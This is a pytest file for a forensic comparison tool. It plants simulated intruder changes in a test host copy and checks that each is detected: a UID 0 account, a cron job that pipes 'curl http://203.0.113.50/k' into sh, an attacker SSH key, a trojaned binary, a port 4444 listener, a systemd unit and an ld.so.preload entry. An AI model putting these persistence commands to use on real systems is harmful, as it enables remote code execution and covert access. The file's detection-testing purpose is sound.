"""The claim's comparison of the last pre-incident report with a post-incident snapshot (issue #17, item 3).

A copy of the recorded hardened host is assessed (its signed report is the basis), then compromised the
way intruders do it: an extra UID 0 account, a cron job in /etc/cron.d, a key added to root's
authorized_keys, a replaced system binary that no longer matches dpkg's md5sums, and a new listening
service in the recorded socket table. A snapshot of it is taken in replay mode, and ``riskagent claim
--snapshot`` must list each of the five changes with its evidence; the snapshot of the untouched copy
must list none. Warranties come from the report only: a host repaired after the incident still had its
warranty broken at the incident.
"""

from __future__ import annotations

import base64
import datetime as dt
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any, Callable, Dict, List, Optional

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from agent.claim import make_claim
from agent.errors import AgentError
from agent.snapshot import take_snapshot
from collectors.context import load_fixture_context
from collectors.digest import md5_hex
from report.claim import Claim, utc_text
from report.claim_changes import read_snapshot_changes
from report.model import Report
from report.signing import Signer, sign_report
from tests.hosts import HOSTS_DIR, complete_report, edited, trusted_for

ROOT = Path(__file__).resolve().parents[2]
PASS = "fixture passphrase"
NOW = dt.datetime.now(dt.timezone.utc).replace(microsecond=0)
ASSESSED = utc_text(NOW - dt.timedelta(days=10))  # the last assessment before the incident
INCIDENT = utc_text(NOW - dt.timedelta(days=1))
CRON_BINARY = b"\x7fELF\x02\x01\x01\x00 /usr/sbin/cron as Debian ships it\n"
TROJAN_BINARY = b"\x7fELF\x02\x01\x01\x00 /usr/sbin/cron with a backdoor\n"
PLANTED_HASH = "$y$j9T$Qz8uXc3pKx1Fv0aZ2hT7m.$Zx4bN8qL0dE2rT6yU1iO3pA5sD7fG9hJ1kL3zX5cV7b"
ATTACKER_CRON = "*/10 * * * * root /usr/bin/curl -fsS http://203.0.113.50/k | /bin/sh\n"


def _public_line(key: Ed25519PrivateKey, comment: str) -> str:
    line = key.public_key().public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode()
    return f"{line} {comment}\n"


def _ssh_fingerprint(line: str) -> str:
    """What ssh-keygen -l prints for a public key line (computed here without our own parser)."""
    import hashlib

    blob = base64.b64decode(line.split()[1])
    return "SHA256:" + base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")


ADMIN_KEY = _public_line(Ed25519PrivateKey.generate(), "alice@workstation")
ATTACKER_KEY = _public_line(Ed25519PrivateKey.generate(), "x@kali")


def host_copy(at: Path, change: Optional[Callable[[Path], None]] = None) -> Path:
    """debian-hardened as its owner keeps it: root's key, and /usr/sbin/cron with its line in dpkg's md5sums."""
    shutil.copytree(HOSTS_DIR / "debian-hardened", at, symlinks=True)
    root = at / "root"
    (root / "usr/sbin").mkdir(parents=True, exist_ok=True)
    (root / "usr/sbin/cron").write_bytes(CRON_BINARY)
    (root / "var/lib/dpkg/info").mkdir(parents=True, exist_ok=True)
    (root / "var/lib/dpkg/info/cron.md5sums").write_text(f"{md5_hex(CRON_BINARY)}  usr/sbin/cron\n")
    (root / "root/.ssh").mkdir(parents=True, exist_ok=True)
    (root / "root/.ssh/authorized_keys").write_text(ADMIN_KEY)
    if change is not None:
        change(at)
    return at


def compromise(at: Path) -> None:
    root = at / "root"
    with open(root / "etc/passwd", "a") as fh:
        fh.write("toor:x:0:0:root:/root:/bin/bash\n")
    with open(root / "etc/shadow", "a") as fh:
        fh.write(f"toor:{PLANTED_HASH}:20400:0:99999:7:::\n")
    (root / "etc/cron.d").mkdir(exist_ok=True)
    (root / "etc/cron.d/php-session").write_text("# clean php sessions\n" + ATTACKER_CRON)
    with open(root / "root/.ssh/authorized_keys", "a") as fh:
        fh.write(ATTACKER_KEY)
    (root / "usr/sbin/cron").write_bytes(TROJAN_BINARY)
    system = json.loads((at / "system.json").read_text())
    system["processes"].append({"exe": "/usr/local/lib/.cache/kworkerd", "name": "kworkerd", "pid": 6666, "user": "root"})
    system["listening"].append({"address": "0.0.0.0", "pid": 6666, "port": 4444, "process": "kworkerd", "proto": "tcp", "user": "root"})
    (at / "system.json").write_text(json.dumps(system, indent=1))


def drop_backup(at: Path) -> None:
    """No backup job: the no_backup warranty is broken (as in debian-hardened-no-backup)."""
    tab = at / "root/var/spool/cron/crontabs/root"
    tab.write_text("".join(line for line in tab.read_text().splitlines(keepends=True) if "restic" not in line))


@pytest.fixture(scope="module")
def key() -> Ed25519PrivateKey:
    return Ed25519PrivateKey.generate()


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory, key: Ed25519PrivateKey) -> Dict[str, Path]:
    """The applicant's public key (it signed the reports and the snapshots) and the adjuster's signing key."""
    from agent.keys import generate_key

    d = tmp_path_factory.mktemp("keys")
    (d / "applicant.pub").write_bytes(key.public_key().public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo))
    generate_key(d / "adjuster.key", PASS.encode())
    return {"pub": d / "applicant.pub", "adjuster": d / "adjuster.key"}


def signed_report(host: Path, out: Path, key: Ed25519PrivateKey) -> Path:
    report = complete_report(str(host), started_at=ASSESSED, report_id="00000000-0000-4000-8000-0000000000a1")
    out.mkdir(parents=True, exist_ok=True)
    path = out / "pre-incident.dsse.json"
    path.write_bytes(sign_report(report, key))
    return path


def snapshot_of(host: Path, out: Path, key: Ed25519PrivateKey, privileged: bool = True) -> Path:
    take_snapshot(load_fixture_context(host, privileged=privileged), Signer(key), out, lang="en")
    return out


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, key: Ed25519PrivateKey) -> Dict[str, Path]:
    """The basis report of the untouched host; snapshots of the untouched and of the compromised copy."""
    d = tmp_path_factory.mktemp("claim-changes")
    untouched = host_copy(d / "untouched")
    compromised = host_copy(d / "compromised", compromise)
    return {
        "report": signed_report(untouched, d / "history", key),
        "untouched": snapshot_of(untouched, d / "snap-untouched", key),
        "compromised": snapshot_of(compromised, d / "snap-compromised", key),
        "host": untouched,
    }


def claim_cli(report: Path, snapshot: Path, keys: Dict[str, Path], out: Path, lang: str = "en") -> Dict[str, Any]:
    env = {**os.environ, "RISKAGENT_KEY_PASSPHRASE": PASS, "PYTHONPATH": str(ROOT)}
    args = [str(report), "--signer-key", str(keys["pub"]), "--incident", INCIDENT, "--snapshot", str(snapshot), "--key", str(keys["adjuster"])]
    res = subprocess.run(
        [sys.executable, "-m", "agent.cli", "claim", *args, "--out", str(out), "--lang", lang], env=env, capture_output=True, text=True, check=False, cwd=ROOT
    )
    assert res.returncode == 0, res.stdout + res.stderr
    data: Dict[str, Any] = json.loads((out / "claim.json").read_text())
    data["_stdout"] = res.stdout
    data["_md"] = (out / "claim.md").read_text()
    return data


def test_the_compromised_host_shows_every_one_of_the_five_changes_with_its_evidence(world: Dict[str, Path], keys: Dict[str, Path], tmp_path: Path) -> None:
    claim = claim_cli(world["report"], world["compromised"], keys, tmp_path / "claim")
    changes: List[Dict[str, Any]] = claim["changes"]
    by_kind: Dict[str, List[Dict[str, Any]]] = {}
    for c in changes:
        by_kind.setdefault(c["kind"], []).append(c)
    assert sorted(by_kind) == ["authorized_key", "listening", "modified_binary", "persistence", "uid0_account"], changes
    assert all(len(v) == 1 for v in by_kind.values()), changes
    (uid0,) = by_kind["uid0_account"]
    assert uid0["subject"] == "toor" and uid0["before"] is None and uid0["after"].startswith("uid 0, gid 0, home /root")
    assert "snapshot accounts/users (sha256 " in uid0["evidence"] and "/etc/passwd line" in uid0["evidence"]
    assert "report 00000000-0000-4000-8000-0000000000a1 host.passwd" in uid0["evidence"]
    (cron,) = by_kind["persistence"]
    assert cron["subject"] == "cron /etc/cron.d/php-session:2" and "203.0.113.50" in cron["after"] and cron["after"].startswith("*/10 * * * * root")
    assert "snapshot persistence/cron (sha256 " in cron["evidence"] and "host.persistence" in cron["evidence"]
    (key,) = by_kind["authorized_key"]
    assert key["subject"] == "root, toor: " + _ssh_fingerprint(ATTACKER_KEY)  # toor shares root's home, so its keys and "x@kali in /root/.ssh/authorized_keys:2" in key["after"]
    assert "snapshot persistence/authorized_keys (sha256 " in key["evidence"]
    (binary,) = by_kind["modified_binary"]
    assert binary["subject"] == "/usr/sbin/cron"
    assert binary["before"] == f"package cron: md5 {md5_hex(CRON_BINARY)} (package database)"
    assert f"md5 {md5_hex(TROJAN_BINARY)}" in binary["after"] and "sha256 " in binary["after"] and "snapshot packages/integrity" in binary["evidence"]
    (port,) = by_kind["listening"]
    assert port["subject"] == "tcp 0.0.0.0:4444" and port["after"] == "kworkerd (user root)" and port["before"] is None
    assert "snapshot volatile/sockets (sha256 " in port["evidence"] and "host.listening" in port["evidence"]
    assert all(c["at"] for c in changes if c["kind"] != "listening"), "file changes are dated by their mtime"
    # every evidence string names an artefact whose digest the signed manifest lists
    manifest = json.loads(base64.b64decode(json.loads((world["compromised"] / "snapshot.dsse.json").read_text())["payload"]))["predicate"]
    digests = {a["name"]: a["sha256"] for a in manifest["artefacts"]}
    for c in changes:
        name = c["evidence"].split(" ")[1]
        assert f"(sha256 {digests[name]})" in c["evidence"], c
    assert claim["snapshot"]["id"] == manifest["snapshot_id"] and claim["snapshot"]["host"] == "db-prod-01"
    assert "changes: 5" in claim["_stdout"]
    assert "New UID 0 account" in claim["_md"] and "Modified system binary" in claim["_md"] and "New listening port" in claim["_md"]
    everything = json.dumps(claim, ensure_ascii=False)
    assert PLANTED_HASH not in everything and "$y$" not in everything, "the planted shadow hash never reaches the claim"


def test_the_untouched_copy_shows_no_change(world: Dict[str, Path], keys: Dict[str, Path], tmp_path: Path) -> None:
    claim = claim_cli(world["report"], world["untouched"], keys, tmp_path / "claim", lang="zh")
    assert claim["changes"] == [], claim["changes"]
    assert "变化：0" in claim["_stdout"] and "未发现变化。" in claim["_md"]
    assert claim["snapshot"] is not None


def test_a_warranty_broken_at_the_last_report_stays_broken_when_the_snapshot_shows_it_repaired(key: Ed25519PrivateKey, tmp_path: Path) -> None:
    broken = host_copy(tmp_path / "no-backup", drop_backup)
    report = signed_report(broken, tmp_path / "history", key)
    repaired = snapshot_of(host_copy(tmp_path / "repaired"), tmp_path / "snap", key)  # the backup job is back after the incident
    claim = make_claim([report], trusted_for(key), dt.datetime.fromisoformat(INCIDENT.replace("Z", "+00:00")), snapshot_dir=repaired, read_snapshot=read_snapshot_changes)
    warranty = {w.id: w for w in claim.warranties}["no_backup"]
    assert warranty.state == "open" and warranty.failing, warranty
    restored = [c for c in claim.changes if c.kind == "persistence" and c.subject.startswith("cron /var/spool/cron/crontabs/root:")]
    assert len(restored) == 2 and all("restic" in (c.after or "") for c in restored), "the repair shows as what changed, not as the warranty kept"


def _claim(report: Path, snapshot: Path, key: Ed25519PrivateKey) -> Claim:
    when = dt.datetime.fromisoformat(INCIDENT.replace("Z", "+00:00"))
    return make_claim([report], trusted_for(key), when, snapshot_dir=snapshot, read_snapshot=read_snapshot_changes)


def test_a_snapshot_that_does_not_verify_is_refused_whole(world: Dict[str, Path], key: Ed25519PrivateKey, tmp_path: Path) -> None:
    copy = tmp_path / "snap"
    shutil.copytree(world["compromised"], copy)
    manifest = json.loads(base64.b64decode(json.loads((copy / "snapshot.dsse.json").read_text())["payload"]))["predicate"]
    accounts = next(a for a in manifest["artefacts"] if a["name"] == "accounts/users")
    (copy / accounts["file"]).write_bytes((copy / accounts["file"]).read_bytes().replace(b'"toor"', b'"tooo"'))
    with pytest.raises(AgentError, match=r"does not verify: artefact accounts/users: tampered"):
        _claim(world["report"], copy, key)
    stranger = Ed25519PrivateKey.generate()
    with pytest.raises(AgentError, match=r"does not verify: snapshot.dsse.json: signed by key [0-9a-f]+, which is not in the trust store"):
        make_claim([world["report"]], {**trusted_for(key)}, dt.datetime.now(dt.timezone.utc), snapshot_dir=snapshot_of(world["host"], tmp_path / "s2", stranger), read_snapshot=read_snapshot_changes)


def test_a_snapshot_of_another_host_is_refused(world: Dict[str, Path], key: Ed25519PrivateKey, tmp_path: Path) -> None:
    other = snapshot_of(HOSTS_DIR / "debian-weak", tmp_path / "snap", key)
    with pytest.raises(AgentError, match=r"the snapshot is of (another machine|host)"):
        _claim(world["report"], other, key)


def _basis(world: Dict[str, Path]) -> Report:
    return complete_report(str(world["host"]), started_at=ASSESSED, report_id="00000000-0000-4000-8000-0000000000a1")


def _unreadable(data: Dict[str, Any]) -> None:
    """The basis report could not read root's authorized_keys nor /etc/cron.d, nor list the sockets."""
    for ev in data["evidence"]:
        if ev["collector"] == "host.persistence":
            facts = ev["facts"]
            facts["authorized_keys"], facts["key_files"] = [], []
            facts["cron_files"] = [f for f in facts["cron_files"] if not f["path"].startswith("/etc/cron.d/")]
            facts["unreadable"] = [
                {"path": "/root/.ssh/authorized_keys", "reason": "cannot read /root/.ssh/authorized_keys: Permission denied"},
                {"path": "/etc/cron.d", "reason": "cannot list /etc/cron.d: Permission denied"},
            ]
        if ev["collector"] == "host.listening":
            ev["status"], ev["facts"], ev["reason"] = "error", {}, "cannot list sockets: permission denied"


def _older(data: Dict[str, Any]) -> None:
    """A report of a riskagent that did not record the persistence baseline."""
    data["evidence"] = [ev for ev in data["evidence"] if ev["collector"] != "host.persistence"]


def test_what_the_report_could_not_read_is_a_note_not_a_change(world: Dict[str, Path], key: Ed25519PrivateKey) -> None:
    got = read_snapshot_changes(world["compromised"], trusted_for(key), edited(_basis(world), _unreadable))
    assert sorted(c.kind for c in got.changes) == ["modified_binary", "uid0_account"], got.changes
    notes = "\n".join(n.en for n in got.notes)
    assert "authorized_keys: the basis report could not read /root/.ssh/authorized_keys" in notes
    assert "cron: the basis report could not read /etc/cron.d/php-session" in notes
    assert "listening ports not compared: the basis report's host.listening evidence is error (cannot list sockets" in notes


def test_a_report_without_the_persistence_baseline_says_so(world: Dict[str, Path], key: Ed25519PrivateKey) -> None:
    got = read_snapshot_changes(world["compromised"], trusted_for(key), edited(_basis(world), _older))
    assert sorted(c.kind for c in got.changes) == ["listening", "modified_binary", "uid0_account"]
    assert any("cron jobs, authorized_keys, /etc/ld.so.preload and rc.local not compared: the basis report has no host.persistence" in n.en for n in got.notes)


def test_a_line_the_snapshot_redacted_is_not_taken_for_a_new_job(key: Ed25519PrivateKey, tmp_path: Path) -> None:
    """The snapshot copies cron tables through the redaction pass: a job holding a password differs from its hash
    in the report only because of that, so it is a note; the job added beside it is a change."""
    job = "0 2 * * * root mysqldump -uroot -pS3cretPw shop > /srv/backup/shop.sql\n"

    def with_dump(at: Path) -> None:
        (at / "root/etc/cron.d").mkdir(exist_ok=True)
        (at / "root/etc/cron.d/dump").write_text(job)

    def plus_one(at: Path) -> None:
        with_dump(at)
        with open(at / "root/etc/cron.d/dump", "a") as fh:
            fh.write("@reboot root /var/tmp/.x\n")

    report = complete_report(str(host_copy(tmp_path / "before", with_dump)), started_at=ASSESSED)
    snap = snapshot_of(host_copy(tmp_path / "after", plus_one), tmp_path / "snap", key)
    got = read_snapshot_changes(snap, trusted_for(key), report)
    assert [(c.kind, c.subject, c.after) for c in got.changes] == [("persistence", "cron /etc/cron.d/dump:2", "@reboot root: /var/tmp/.x")]
    assert any("line 1 of /etc/cron.d/dump" in n.en and "/etc/cron.d/dump 第 1 行" in n.zh for n in got.notes), got.notes
    assert "S3cretPw" not in json.dumps([c.__dict__ for c in got.changes] + [n.to_json() for n in got.notes], ensure_ascii=False)


def test_a_new_enabled_unit_and_a_new_preload_are_persistence(key: Ed25519PrivateKey, tmp_path: Path) -> None:
    def planted(at: Path) -> None:
        wants = at / "root/etc/systemd/system/multi-user.target.wants"
        wants.mkdir(parents=True, exist_ok=True)
        (at / "root/etc/systemd/system/dbus-broker-helper.service").write_text("[Service]\nExecStart=/var/tmp/.x\n[Install]\nWantedBy=multi-user.target\n")
        os.symlink("/etc/systemd/system/dbus-broker-helper.service", wants / "dbus-broker-helper.service")
        (at / "root/etc/ld.so.preload").write_text("/usr/lib/x86_64-linux-gnu/libsysd.so\n")

    report = complete_report(str(host_copy(tmp_path / "before")), started_at=ASSESSED)
    snap = snapshot_of(host_copy(tmp_path / "after", planted), tmp_path / "snap", key)
    got = read_snapshot_changes(snap, trusted_for(key), report)
    subjects = {c.subject: c for c in got.changes}
    assert sorted(subjects) == ["/etc/ld.so.preload", "systemd dbus-broker-helper.service (multi-user.target.wants)"], got.changes
    assert subjects["/etc/ld.so.preload"].before is None and "preloads /usr/lib/x86_64-linux-gnu/libsysd.so" in (subjects["/etc/ld.so.preload"].after or "")


def test_what_could_not_be_compared_reaches_the_claim_notes(world: Dict[str, Path], key: Ed25519PrivateKey, tmp_path: Path) -> None:
    """A snapshot taken without root: the claim says what that left out, and lists no change for it."""
    snap = snapshot_of(world["host"], tmp_path / "snap", key, privileged=False)
    claim = _claim(world["report"], snap, key)
    assert claim.changes == ()
    assert any(n.en.startswith("the snapshot was not taken as root") and n.zh.startswith("快照不是以 root 身份采集的") for n in claim.notes), claim.notes


ENGLISH_ONLY = ("not compared", "could not", "the snapshot", "the basis report", "was not", "no verified", "compared with")
_CJK = re.compile(r"[\u4e00-\u9fff]")


def test_every_note_of_the_comparison_is_in_zh_and_en(world: Dict[str, Path], key: Ed25519PrivateKey, tmp_path: Path) -> None:
    """The notes of six comparisons, between them most of what a comparison can leave out: a basis report that could
    not read a cron path, authorized_keys and the sockets; one without the persistence baseline; one whose accounts
    evidence has a form this build does not read; a snapshot taken without root; an offline-root snapshot (listening
    ports not compared); no basis at all. Each note has a zh sentence (files and diagnostics verbatim inside it) and
    an English one, and the zh one holds none of the English sentence."""
    from tests.agent.test_snapshot_offline_root import as_root_fs, offline

    def odd_accounts(data: Dict[str, Any]) -> None:
        for ev in data["evidence"]:
            if ev["collector"] == "host.passwd":
                ev["facts"]["users"] = [{"name": u["name"]} for u in ev["facts"]["users"]]

    trusted, basis = trusted_for(key), _basis(world)
    seized = as_root_fs(host_copy(tmp_path / "seized-host", compromise), tmp_path / "image")
    offline_snap = take_snapshot(offline(seized), Signer(key), tmp_path / "snap-offline", lang="en").out_dir
    scenarios = [
        read_snapshot_changes(world["compromised"], trusted, edited(basis, _unreadable)),
        read_snapshot_changes(world["compromised"], trusted, edited(basis, _older)),
        read_snapshot_changes(world["compromised"], trusted, edited(basis, odd_accounts)),
        read_snapshot_changes(snapshot_of(world["host"], tmp_path / "snap-user", key, privileged=False), trusted, basis),
        read_snapshot_changes(offline_snap, trusted, basis),
        read_snapshot_changes(world["untouched"], trusted, None),
    ]
    notes = {n.en: n for got in scenarios for n in got.notes}
    expected = {
        "listening ports not compared: the snapshot is of a root file system that was not running (offline-root)": (
            "监听端口未比对：快照取自未运行的根文件系统（offline-root），监听端口只存在于运行中的系统"
        ),
        "cron: the basis report could not read /etc/cron.d/php-session: not compared": "计划任务（cron）：基线评估报告未能读取 /etc/cron.d/php-session，未比对",
        "authorized_keys: the basis report could not read /root/.ssh/authorized_keys: its keys were not compared": (
            "授权密钥（authorized_keys）：基线评估报告未能读取 /root/.ssh/authorized_keys，其中的密钥未比对"
        ),
        "listening ports not compared: the basis report's host.listening evidence is error (cannot list sockets: permission denied)": (
            "监听端口未比对：基线评估报告中 host.listening 证据的状态为错误（cannot list sockets: permission denied）"
        ),
        "cron jobs, authorized_keys, /etc/ld.so.preload and rc.local not compared: the basis report has no host.persistence evidence "
        "(the riskagent that made it did not record it)": (
            "计划任务（cron）、授权密钥（authorized_keys）、/etc/ld.so.preload 与 rc.local 未比对：基线评估报告中没有 host.persistence 证据"
            "（生成该报告的 riskagent 版本未记录此项）"
        ),
        "the snapshot was not taken as root: what only root can read is missing from it and was not compared": "快照不是以 root 身份采集的：仅 root 可读的内容不在快照中，未比对",
        "the snapshot was verified but not compared: there is no verified assessment before the incident": "快照已验证但未比对：事故前没有经验证的评估报告",
    }
    for en, zh in expected.items():
        assert en in notes, sorted(notes)
        assert notes[en].zh == zh, notes[en]
    odd = [n for n in notes.values() if n.en.startswith("accounts not compared: the evidence has a form this riskagent does not read (KeyError")]
    assert len(odd) == 1 and odd[0].zh.startswith("账户未比对：证据的格式不是本版本 riskagent 能读取的（KeyError"), odd
    assert len(notes) >= 10, sorted(notes)
    for n in notes.values():
        assert _CJK.search(n.zh) and not _CJK.search(n.en), n
        assert not any(phrase in n.zh for phrase in ENGLISH_ONLY), n.zh
        if "not compared" in n.en:
            assert "未比对" in n.zh, n


def test_a_file_another_package_diverted_is_checked_where_dpkg_moved_it(key: Ed25519PrivateKey, tmp_path: Path) -> None:
    """postgresql-common diverts libpq-dev's /usr/bin/pg_config to pg_config.libpq-dev and ships its own: neither
    copy is a modification (a real case on Debian: the comparison must follow /var/lib/dpkg/diversions)."""
    ours, theirs = b"#!/bin/sh\n# postgresql-common's pg_config\n", b"\x7fELF libpq-dev pg_config\n"

    def divert(at: Path) -> None:
        root = at / "root"
        (root / "usr/bin").mkdir(parents=True, exist_ok=True)
        (root / "usr/bin/pg_config").write_bytes(ours)
        (root / "usr/bin/pg_config.libpq-dev").write_bytes(theirs)
        (root / "var/lib/dpkg/info/libpq-dev:amd64.md5sums").write_text(f"{md5_hex(theirs)}  usr/bin/pg_config\n")
        (root / "var/lib/dpkg/info/postgresql-common.md5sums").write_text(f"{md5_hex(ours)}  usr/bin/pg_config\n")
        (root / "var/lib/dpkg/diversions").write_text("/usr/bin/pg_config\n/usr/bin/pg_config.libpq-dev\npostgresql-common\n")

    snap = snapshot_of(host_copy(tmp_path / "host", divert), tmp_path / "snap", key)
    from report.snapshot import read_manifest

    envelope = json.loads((snap / "snapshot.dsse.json").read_text())
    manifest = read_manifest(base64.b64decode(envelope["payload"]))
    record = manifest.artefact("packages/integrity")
    assert record is not None
    integrity = json.loads((snap / record.file).read_text())
    assert integrity["files_checked"] >= 3
    assert [m["path"] for m in integrity["mismatched"]] == [], integrity["mismatched"]
    # Without the diversions file, the same tree is a false modification: the test can fail.
    (tmp_path / "host" / "root/var/lib/dpkg/diversions").unlink()
    snap2 = snapshot_of(tmp_path / "host", tmp_path / "snap2", key)
    envelope2 = json.loads((snap2 / "snapshot.dsse.json").read_text())
    record2 = read_manifest(base64.b64decode(envelope2["payload"])).artefact("packages/integrity")
    assert record2 is not None
    assert [m["path"] for m in json.loads((snap2 / record2.file).read_text())["mismatched"]] == ["/usr/bin/pg_config"]
